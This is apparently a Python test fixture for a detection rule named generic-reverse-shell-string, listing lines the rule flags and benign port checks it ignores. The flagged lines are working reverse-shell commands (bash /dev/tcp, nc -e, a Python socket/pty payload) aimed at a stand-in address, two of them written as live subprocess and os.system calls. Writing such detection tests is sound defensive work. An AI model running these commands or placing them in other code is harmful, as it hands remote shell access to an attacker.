"""Fixture for generic-reverse-shell-string.

RULEID: /dev/tcp one-liner passed to subprocess; nc -e in os.system; python socket one-liner.
OK: /dev/tcp port probe string; an nc -z port check.
"""
import os
import subprocess

# ruleid: generic-reverse-shell-string
subprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"])
# ruleid: generic-reverse-shell-string
os.system("nc -e /bin/sh 198.51.100.9 4444 &")
# ruleid: generic-reverse-shell-string
PAYLOAD = "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"
# ok: generic-reverse-shell-string
PROBE = "timeout 1 bash -c 'echo > /dev/tcp/db/5432'"
# ok: generic-reverse-shell-string
CHECK = "nc -z localhost 8080"
